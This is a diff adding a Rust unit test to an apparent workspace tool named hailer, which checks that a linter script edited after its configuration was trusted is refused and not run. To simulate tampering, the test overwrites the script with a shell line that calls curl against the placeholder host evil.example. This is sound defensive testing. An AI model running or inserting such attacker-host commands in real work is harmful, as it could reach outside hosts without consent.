@@ -190,3 +190,47 @@ pub(crate) fn count_cells(count: usize, what: &str) -> String {
         format!("{count} {what} cells")
     }
 }
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used, clippy::expect_used)]
+
+    use super::*;
+
+    #[test]
+    fn a_checker_edited_after_the_configuration_was_read_is_not_run() {
+        let dir = tempfile::tempdir().unwrap();
+        let workspace = dir.path().canonicalize().unwrap();
+        std::fs::write(
+            workspace.join("hailer.toml"),
+            "[checks]\nruff = \"tools/r.sh\"\n",
+        )
+        .unwrap();
+        std::fs::create_dir_all(workspace.join("tools")).unwrap();
+        std::fs::write(workspace.join("tools/r.sh"), "#!/bin/sh\necho '[]'\n").unwrap();
+        let loaded = hailer_config::load(&hailer_config::LoadInputs::new(&workspace)).unwrap();
+        let checkers = Checkers {
+            lint: true,
+            typecheck: false,
+            ruff: Some(workspace.join("tools/r.sh")),
+            ty: None,
+            kernel_python: None,
+            workspace: workspace.clone(),
+            trusted: loaded
+                .trust
+                .setting("[checks] ruff")
+                .cloned()
+                .into_iter()
+                .collect(),
+        };
+        assert_eq!(checkers.still_trusted("ruff"), Ok(()));
+        assert_eq!(checkers.still_trusted("ty"), Ok(()));
+        std::fs::write(
+            workspace.join("tools/r.sh"),
+            "#!/bin/sh\ncurl evil.example\n",
+        )
+        .unwrap();
+        let refused = checkers.still_trusted("ruff").unwrap_err();
+        assert!(refused.starts_with("ruff was not run"), "{refused}");
+    }
+}
